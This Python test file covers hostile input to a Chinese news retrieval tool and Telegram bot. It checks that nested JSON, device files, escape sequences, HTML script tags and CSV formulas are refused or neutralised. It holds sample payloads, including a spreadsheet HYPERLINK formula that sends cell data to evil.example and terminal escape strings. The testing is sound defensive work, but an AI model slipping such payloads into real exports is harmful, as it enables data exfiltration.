"""Issue 9 ("Hostile input"): one test per finding, each reproducing it and passing now.

Findings 2-6 and the minor ones; finding 1 (poison Telegram updates) is in
tests/test_hostile_bot.py and the property-based fuzzing in tests/test_fuzz.py.
"""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import subprocess
import sys
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner, Result

from bot.app import build_services, configure
from bot.config import BotSettings
from retrieval import limits
from retrieval.cli import main
from retrieval.errors import InputError
from retrieval.feedback import CitedArticle, Feedback, FeedbackStore, write_csv
from retrieval.index import Index
from retrieval.library import Library
from retrieval.sources.loading import LoadReport, load_path
from tests.helpers import write
from tests.telegram.harness import DEFAULT_TOKEN, User
from tests.telegram.html_rules import assert_valid
from tests.telegram.offline import (
    OfflineBot,
    command_update,
    document_update,
    inline_query_update,
    message_update,
)

QUESTION = "冠县有多少家绿色建材企业？"
ADMIN = User(4242, "编辑", "editor")
STRANGER = User(777, "路人", "stranger")
NEWSQA = str(Path(sys.executable).with_name("newsqa"))
GOOD_RECORD = {"title": "东昌湖畔新添口袋公园", "date": "2023-10-10",
               "text": "东昌府区在东昌湖畔新建了三座口袋公园，总面积约两千平方米。"}
DEEP = "[" * 50_000 + "]" * 50_000  # within the line limit; json.loads recursed to death


def run(*args: str, stdin: str | bytes | None = None) -> Result:
    return CliRunner().invoke(main, list(args), input=stdin, catch_exceptions=False)


def jsonl(*records: Any) -> str:
    return "".join(json.dumps(r, ensure_ascii=False) + "\n" for r in records)


def load_error(path: Path, **kwargs: Any) -> str:
    with pytest.raises(InputError) as excinfo:
        load_path(path, **kwargs)
    return str(excinfo.value)


@pytest.fixture(scope="module")
def library(sample_page_index: Path, embedder: Any) -> Iterator[Library]:
    with Library(Index.open(sample_page_index, embedder=embedder)) as opened:
        yield opened


def make_bot(library: Library, feedback: FeedbackStore, **settings: Any) -> OfflineBot:
    config = replace(BotSettings(token=DEFAULT_TOKEN), **settings)
    return OfflineBot(lambda builder: configure(builder, build_services(config, library,
                                                                       feedback)))


@pytest.fixture()
def feedback(tmp_path: Path) -> Iterator[FeedbackStore]:
    with FeedbackStore.open(tmp_path / "feedback.sqlite") as store:
        yield store


def texts(bot: OfflineBot) -> list[str]:
    return [assert_valid(str(call.params["text"])).text for call in bot.sent_messages()]


# -- 2. deeply nested JSON -----------------------------------------------------------------------


def test_deeply_nested_jsonl_names_file_and_line(tmp_path: Path) -> None:
    path = write(tmp_path / "deep.jsonl", jsonl(GOOD_RECORD) + '{"text": ' + DEEP + "}\n")
    message = load_error(path)
    assert message.startswith(f"{path}:2: JSON nested 50001 levels deep, over the limit of 20")


def test_ingest_skip_bad_keeps_the_good_files_given_with_a_deep_one(tmp_path: Path) -> None:
    good = write(tmp_path / "good.jsonl", jsonl(GOOD_RECORD))
    deep = write(tmp_path / "deep.jsonl", DEEP + "\n")
    index = tmp_path / "index"
    result = run("ingest", str(good), str(deep), "--index", str(index), "--skip-bad", "-q")
    assert result.exit_code == 2
    assert f"rejected: {deep}:1: JSON nested" in result.stderr
    assert "1 added" in result.stdout and "1 files rejected" in result.stdout
    assert "Traceback" not in result.output


def test_ask_batch_with_deep_json_names_file_and_line(tmp_path: Path) -> None:
    batch = write(tmp_path / "q.jsonl", jsonl({"id": "q1", "question": QUESTION}) + DEEP + "\n")
    result = run("ask", "--batch", str(batch), "--index", str(tmp_path / "none"))
    assert result.exit_code == 2
    assert result.stderr.startswith(f"error: {batch}:2: JSON nested 50000 levels deep")


def test_a_deep_upload_gets_its_reason_not_an_apology(library: Library,
                                                      feedback: FeedbackStore) -> None:
    content = (DEEP + "\n").encode()
    with make_bot(library, feedback, admins=frozenset({ADMIN.id})) as bot:
        bot.request.add_file("deep", content)
        bot.feed(document_update("deep", file_name="deep.jsonl", mime_type="application/json",
                                 file_size=len(content), user=ADMIN))
        assert texts(bot)[-1].startswith("未导入：deep.jsonl\n原因：deep.jsonl:1: JSON nested")


# -- 3. unbounded reads --------------------------------------------------------------------------


def test_devices_and_fifos_are_refused_by_name_without_reading(tmp_path: Path) -> None:
    fifo = tmp_path / "pipe.txt"
    os.mkfifo(fifo)
    # In a subprocess with a timeout: before the fix /dev/zero filled memory and a FIFO hung.
    for target, kind in (("/dev/zero", "a character device"), (str(fifo), "a named pipe")):
        done = subprocess.run([NEWSQA, "parse", target], capture_output=True, text=True,
                              timeout=60)
        assert done.returncode == 2
        assert done.stderr == (
            f"error: {target}: this is {kind}{' (FIFO)' if 'pipe' in kind else ''}, "
            "not a regular file; nothing was read\n")


def test_a_fifo_inside_a_folder_is_rejected_and_the_rest_loads(tmp_path: Path) -> None:
    write(tmp_path / "a.jsonl", jsonl(GOOD_RECORD))
    os.mkfifo(tmp_path / "b.txt")
    report = LoadReport()
    loaded = load_path(tmp_path, report=report)
    assert [f.path.name for f in loaded] == ["a.jsonl"]
    assert [str(e) for e in report.rejected] == [
        f"{tmp_path / 'b.txt'}: this is a named pipe (FIFO), not a regular file; nothing was read"
    ]


def test_a_million_character_line_is_refused_before_chunking(tmp_path: Path) -> None:
    path = write(tmp_path / "long.txt", "标题\n" + "很长的一行。" * 170_000 + "\n")
    assert load_error(path) == (
        f"{path}:2: line is 1,020,000 characters long, over the 200,000 limit; is this really "
        "text? (wrap long lines, or split the record)")


def test_an_article_over_the_size_limit_is_refused(tmp_path: Path) -> None:
    body = "\n".join(["这是一篇非常长的报道中的一个段落，记录了很多事情。"] * 5_000)
    path = write(tmp_path / "long.txt", "很长的报道\n\n" + body + "\n")
    assert "article 1 ('很长的报道'): article text is 129,999 characters long, over the " \
           "100,000 limit" in load_error(path)


def test_a_file_over_20_mb_is_refused_without_reading_it_all(tmp_path: Path) -> None:
    path = tmp_path / "huge.txt"
    with path.open("wb") as out:
        out.truncate(limits.MAX_FILE_BYTES + 5 * limits.MIB)  # sparse: costs no disk
    assert load_error(path) == (
        f"{path}: the file is larger than the 20.0 MB limit (at least 20.0 MB); split it into "
        "smaller files")


# -- 4. undecodable question text ----------------------------------------------------------------


def test_undecodable_questions_are_cleaned_at_the_library_door(library: Library) -> None:
    # "\udcff" is what Python makes of an invalid UTF-8 byte on the command line.
    for question in ("\udcff\udcfe" + QUESTION, QUESTION + "\ud800", "\x1b]0;pwned\x07" + QUESTION):
        answer = library.ask(question)
        assert answer.found and "冠县共有绿色建材企业15家" in answer.text
        assert not any(0xD800 <= ord(ch) <= 0xDFFF or ch == "\x1b" for ch in answer.question)
    assert library.search("\udcff绿色建材\ud800")[0].citation.title == "链上发力 攀高向强"
    with pytest.raises(InputError, match="the question is empty"):
        library.ask("\x00\x1b[2J")
    with pytest.raises(InputError, match="the search query is 201 characters long"):
        library.search("建" * 201)


def test_undecodable_bytes_on_the_command_line_and_stdin(sample_page_index: Path,
                                                         tmp_path: Path) -> None:
    index = str(sample_page_index)
    argv = [os.fsencode(NEWSQA), b"ask", b"\xff\xfe" + QUESTION.encode(), b"--index",
            os.fsencode(index), b"--json"]
    done = subprocess.run(argv, capture_output=True, timeout=300)
    assert done.returncode == 0, done.stderr.decode(errors="replace")
    assert json.loads(done.stdout)["found"] is True
    searched = run("search", "\udcff绿色建材", "--index", index)
    assert searched.exit_code == 0 and "链上发力 攀高向强" in searched.output
    chatted = run("chat", "--index", index, stdin=b"\xff\xfe" + QUESTION.encode() + b"\n")
    assert chatted.exit_code == 0 and "冠县共有绿色建材企业15家" in chatted.output
    batch = write(tmp_path / "q.jsonl", '{"id": "q1", "question": "\\ud800' + QUESTION + '"}\n')
    batched = run("ask", "--batch", str(batch), "--index", index)
    assert batched.exit_code == 0 and json.loads(batched.output)["found"] is True


def test_an_overlong_question_is_refused_with_its_line(tmp_path: Path) -> None:
    batch = write(tmp_path / "q.jsonl", jsonl({"question": "问" * 501}))
    result = run("ask", "--batch", str(batch), "--index", str(tmp_path / "none"))
    assert result.exit_code == 2
    assert result.stderr == (
        f"error: {batch}:1: the question is 501 characters long; keep it under 500\n")


# -- 5. garbage in, silently ---------------------------------------------------------------------


def test_a_pdf_is_not_stored_as_an_article(tmp_path: Path) -> None:
    # Read as the PDF it is (its first bytes say so), and refused as a broken one.
    path = write(tmp_path / "scan.txt", b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\n"
                                        b"BT /F1 12 Tf (Hello) Tj ET\n%%EOF\n")
    assert load_error(path).startswith(f"{path}: not a readable PDF (")


def test_a_file_of_punctuation_is_refused(tmp_path: Path) -> None:
    path = write(tmp_path / "dots.txt", "。。。。\n\n！！！？？？……\n——\n")
    assert load_error(path) == (
        f"{path}: article 1 ('。。。。'): its text has no letters or digits (only punctuation "
        "or symbols); nothing from this file was loaded")
    record = write(tmp_path / "dots.jsonl", jsonl({"title": "t", "text": "……！！"}))
    assert "line 1" not in load_error(record) and ":1: its text has no letters" in load_error(
        record)


def test_terminal_escape_sequences_never_reach_the_archive(tmp_path: Path) -> None:
    nasty = "\x1b]0;pwned\x07\x1b[2J\x1b[31m冠县\x1b[0m绿色建材\x9b1m企业\x07有15家。"
    text_file = write(tmp_path / "a.txt", f"标题\x1b[5m闪\n\n{nasty}\n")
    record = write(tmp_path / "b.jsonl", jsonl({"title": "标题\u001b[5m闪", "text": nasty + "\x00",
                                                "authors": ["王\u001b[1m培源"]}))
    html_file = write(tmp_path / "c.html", "<html><head><title>标题&#27;[5m闪</title></head>"
                                           f"<body><article><h1>标题&#27;[5m闪</h1><p>{nasty}"
                                           "这是一段足够长的正文，用来让提取器认出正文内容。"
                                           "</p></article></body></html>")
    for path in (text_file, record, html_file):
        [source] = load_path(path)
        [article] = source.articles
        everything = json.dumps(article.to_dict(), ensure_ascii=False)
        assert not any(ch in everything for ch in "\x1b\x07\x00\x9b"), (path, everything)
        assert "冠县绿色建材企业有15家。" in article.text
        assert article.title == "标题闪"


def test_dangling_and_looping_links_and_unreadable_folders_are_reported(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    folder = tmp_path / "in"
    write(folder / "good.jsonl", jsonl(GOOD_RECORD))
    (folder / "gone.txt").symlink_to(folder / "missing.txt")
    (folder / "loop.txt").symlink_to(folder / "loop.txt")
    write(folder / "photo.gif", b"GIF89a")
    (folder / "locked").mkdir()
    real_scandir = os.scandir

    def scandir(path: Any = ".") -> Any:  # root can read anything: simulate chmod 000
        if str(path).endswith("locked"):
            raise PermissionError(13, "Permission denied", str(path))
        return real_scandir(path)

    monkeypatch.setattr(os, "scandir", scandir)
    result = run("ingest", str(folder), "--index", str(tmp_path / "index"), "-q")
    assert result.exit_code == 2
    err = result.stderr
    assert f"rejected: {folder / 'gone.txt'}: dangling symbolic link" in err
    assert f"rejected: {folder / 'loop.txt'}: symbolic link loop" in err
    assert f"rejected: {folder / 'locked'}: cannot read this folder (Permission denied)" in err
    assert f"skipped: {folder / 'photo.gif'}: not a source file extension" in err
    assert "3 of 4 input files rejected, nothing was ingested" in err
    ok = run("ingest", str(folder), "--index", str(tmp_path / "index"), "-q", "--skip-bad")
    assert ok.exit_code == 2 and "1 added" in ok.stdout and "3 files rejected" in ok.stdout


def test_a_boolean_page_is_refused(tmp_path: Path) -> None:
    path = write(tmp_path / "p.jsonl", jsonl({**GOOD_RECORD, "page": True}))
    assert load_error(path) == (
        f'{path}:1: "page" must be a string or a whole number, not true; fix or remove that '
        "line - nothing from this file was loaded")
    [source] = load_path(write(tmp_path / "q.jsonl", jsonl({**GOOD_RECORD, "page": 3})))
    assert source.articles[0].page == "3"


def test_script_text_stays_out_of_html_headlines(tmp_path: Path) -> None:
    path = write(tmp_path / "x.html", (
        "<html><head><title>运河文化节开幕<script>alert('x')</script></title></head><body>"
        "<article><h1>运河文化节开幕<script>document.title='pwned'</script></h1>"
        "<p>第十届运河文化节昨日在聊城开幕，来自全国各地的游客参加了开幕式。</p>"
        "<style>p{color:red}</style></article></body></html>"))
    [source] = load_path(path)
    [article] = source.articles
    assert article.title == "运河文化节开幕"
    assert "alert" not in article.text and "pwned" not in article.text
    assert "color" not in article.text


# -- 6. CSV export -------------------------------------------------------------------------------


def test_csv_export_neutralises_formulas_and_writes_a_bom() -> None:
    row = Feedback(chat_id=-100, message_id=5, user_id=7, vote=-1,
                   question='=HYPERLINK("http://evil.example/?"&A1,"点我")',
                   answer="+1 冠县", citations=(CitedArticle(1, "abc", "@标题"),),
                   span="-0.51个百分点")
    out = io.StringIO()
    write_csv([row], out)
    text = out.getvalue()
    assert text.startswith("\ufefftime,vote,")
    [header, cells] = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    data = dict(zip(header, cells, strict=True))
    assert data["question"] == "'=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")"
    assert data["answer"] == "'+1 冠县"
    assert data["span"] == "'-0.51个百分点"
    assert data["citations"] == "[1] @标题 (abc)"  # starts with "[": harmless as it is
    assert data["vote"] == "-1" and data["chat_id"] == "-100"  # numbers stay numbers


# -- minor ---------------------------------------------------------------------------------------


def test_search_has_a_length_cap_in_the_bot(library: Library, feedback: FeedbackStore) -> None:
    with make_bot(library, feedback) as bot:
        bot.feed(command_update("/search " + "建" * 300))
        assert texts(bot) == ["问题太长了（300 字），请缩短到 200 字以内。"]


def test_inline_queries_are_rate_limited(library: Library, feedback: FeedbackStore) -> None:
    with make_bot(library, feedback, rate_limit=2, rate_window=600) as bot:
        for _ in range(3):
            bot.feed(inline_query_update("绿色建材"))
        answers = bot.request.calls_to("answerInlineQuery")
        assert [len(c.params["results"]) > 0 for c in answers] == [True, True, False]


def test_refusals_to_users_off_the_allow_list_are_rate_limited(
        library: Library, feedback: FeedbackStore) -> None:
    with make_bot(library, feedback, allowed_users=frozenset({1})) as bot:
        for _ in range(10):
            bot.feed(message_update(QUESTION, user=STRANGER))
        assert texts(bot) == ["抱歉，这个机器人只对授权用户开放。"] * 3


def test_a_folder_with_one_bad_file_of_two_reports_one_of_two(tmp_path: Path) -> None:
    folder = tmp_path / "in"
    write(folder / "a.jsonl", jsonl(GOOD_RECORD))
    write(folder / "b.jsonl", '{"title": \n')
    result = run("ingest", str(folder), "--index", str(tmp_path / "index"), "-q")
    assert result.exit_code == 2
    assert "1 of 2 input files rejected" in result.stderr
    parsed = run("parse", str(folder))
    assert parsed.exit_code == 2 and "东昌湖畔新添口袋公园" in parsed.stdout
    assert f"rejected: {folder / 'b.jsonl'}:1: not valid JSON" in parsed.stderr
    assert "1 of 2 files rejected" in parsed.stderr


def test_nothing_indexed_is_lost_when_hostile_files_are_ingested(
        sample_page_index: Path, tmp_path: Path) -> None:
    index = tmp_path / "index"
    shutil.copytree(sample_page_index, index)
    before = run("stats", "--index", str(index), "--json").stdout
    bad = tmp_path / "bad"
    write(bad / "deep.jsonl", DEEP + "\n")
    write(bad / "pdf.txt", b"%PDF-1.4\n")
    write(bad / "dots.txt", "。。。\n")
    result = run("ingest", str(bad), "--index", str(index), "-q", "--skip-bad")
    assert result.exit_code == 2
    assert run("stats", "--index", str(index), "--json").stdout == before
    assert run("check", "--index", str(index)).exit_code == 0


def test_an_unexpected_parser_failure_costs_only_that_file(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from retrieval.sources import loading

    def broken(*_args: Any) -> Any:
        raise ValueError("a parser bug")

    monkeypatch.setitem(loading._LOADERS, "jsonl", broken)
    write(tmp_path / "in" / "a.jsonl", jsonl(GOOD_RECORD))
    write(tmp_path / "in" / "b.md", "东昌湖畔\n\n东昌府区新建了三座口袋公园。\n")
    report = LoadReport()
    loaded = load_path(tmp_path / "in", report=report)
    assert [f.path.name for f in loaded] == ["b.md"]
    assert [str(e) for e in report.rejected] == [
        f"{tmp_path / 'in' / 'a.jsonl'}: could not be read (ValueError: a parser bug); this is "
        "a bug in newsqa, please report it with the file"]


def test_a_refused_question_fails_only_its_own_caller_in_a_batch(library: Library) -> None:
    import asyncio

    from bot.asking import Asker

    async def both() -> list[Any]:
        asker = Asker(library)
        return await asyncio.gather(asker.ask(QUESTION), asker.ask("问" * 501),
                                    return_exceptions=True)

    good, refused = asyncio.run(both())
    assert not isinstance(good, BaseException) and good.found
    assert isinstance(refused, InputError)
